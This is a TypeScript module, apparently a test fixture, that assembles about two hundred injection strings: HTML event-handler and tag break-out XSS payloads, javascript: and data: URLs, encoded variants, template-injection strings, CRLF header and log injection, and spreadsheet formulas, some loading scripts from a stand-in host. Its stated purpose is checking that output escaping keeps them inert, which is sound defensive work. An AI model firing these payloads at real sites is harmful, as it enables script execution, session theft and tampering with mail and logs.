/** Every way that the world has to run a script from an event of an element. */
const events = [
  ...["onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle"],
  ...["onbegin", "onend", "onscroll", "onwheel", "oncopy", "oncut", "onpaste", "onauxclick", "onkeydown", "onsubmit"],
  ...["onchange", "oninput", "oninvalid", "onreset", "onselect", "ontransitionend", "onhashchange", "onpageshow"],
  ...["onbeforeinput", "oncanplay", "onloadstart", "onplay", "onblur", "onbeforetoggle", "oncontextmenu", "ondblclick"],
  ...["ondrag", "ondragstart", "ondrop", "onfocusin", "onformdata", "onmessage", "onmousedown", "onpopstate"],
  ...[
    "onpointerdown",
    "onresize",
    "onsearch",
    "onselectstart",
    "onsuspend",
    "ontouchstart",
    "onunload",
    "onvolumechange",
  ],
];
const elements = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "iframe src=//x.example",
];

/** One element per event, the elements by turns. */
const handlers = events.map((event, index) => `<${elements[index % elements.length]} ${event}=alert(1)>`);

/** What leaves an attribute, a tag, a comment, a script or a style, with each kind of quote. */
const ways = ['"><', "'><", "`><", "--><", "</title><", "</textarea><", "</script><", "</style><", "]]><", "\n><"];
const leaving = ways.flatMap((way) => [
  `${way}script>alert(1)</script>`,
  `${way}img src=x onerror=alert(1)>`,
  `${way}svg/onload=alert(1)>`,
]);

const addresses = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
  ],
  ...["javascript://%0aalert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "vbscript:msgbox(1)"],
  ...["data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
  ...["//x.example/x.js", "\\\\x.example\\x", 'https://x.example/?a="onmouseover=alert(1)', "feed:javascript:alert(1)"],
];
const links = addresses.flatMap((address) => [
  `<a href="${address}">klik</a>`,
  `<iframe src="${address}"></iframe>`,
  `[klik](${address})`,
]);

const elementsThatRun = [
  ...["<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ...["<script src=//x.example/x.js></script>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script/x>"],
  ...["<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>"],
  ...[
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ...[
    "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
  ],
  ...[
    "<base href=javascript:/>",
    '<meta http-equiv=refresh content="0;javascript:alert(1)">',
    "<link rel=stylesheet href=//x.example/x.css>",
  ],
  ...["<style>@import '//x.example/x.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>"],
  ...[
    "<form action=javascript:alert(1)><button>klik</button></form>",
    "<button formaction=javascript:alert(1)>klik</button>",
  ],
  ...[
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
  ],
  ...["<xss style=animation-name:x onanimationstart=alert(1)>", "<a id=x tabindex=1 onfocus=alert(1)></a>"],
  ...["<img src=x:alert(1) onerror=eval(src)>", "<img src=`x` onerror=alert(1)>", "<img/src=x/onerror=alert(1)>"],
  ...['<img src=x onerror="&#97;lert(1)">', "<img src=x onerror=\\u0061lert(1)>", "<IMG SRC=x ONERROR=ALERT(1)>"],
  ...[
    '<p style="x:expression(alert(1))">',
    "<div style=background:url(javascript:alert(1))>",
    "<portal src=javascript:alert(1)>",
  ],
  ...[
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//x.example/x.js></layer>",
  ],
  ...[
    "<svg><a xlink:href=javascript:alert(1)><text>klik</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
  ],
  ...[
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<iframe srcdoc="<script>alert(1)</script>">',
  ],
];

const others = [
  // Templates of other programs, and of our own sentences.
  ...[
    "{{constructor.constructor('alert(1)')()}}",
    `$${"{alert(1)}"}`,
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{7*7}}",
    "{{name}}",
    "$t(site.name)",
  ],
  // Escapes that must not be undone.
  ...[
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
  ],
  ...[
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  ],
  ...[
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028alert(1)//",
    "\u2029alert(1)//",
    "<\ufffdscript>alert(1)",
  ],
  // What leaves a string or an object in a script.
  ...[
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "</script><script>alert(1)//",
    "*/alert(1)/*",
    "`+alert(1)+`",
    "-alert(1)-",
    "__proto__",
    "constructor",
  ],
  // Lines of another header, of another log line, of a formula.
  ...[
    "a\r\nSet-Cookie: x=1",
    "a\r\nBcc: x@x.example",
    'a\n{"level":60,"msg":"x"}',
    '=HYPERLINK("//x.example")',
    "@SUM(1)",
    "+1+1",
    "-1-1",
  ],
];

/** Some two hundred texts that must be shown as they are, and do nothing: on no page, in no mail, in no line of a log. */
export const payloads: readonly string[] = [...elementsThatRun, ...handlers, ...leaving, ...links, ...others];
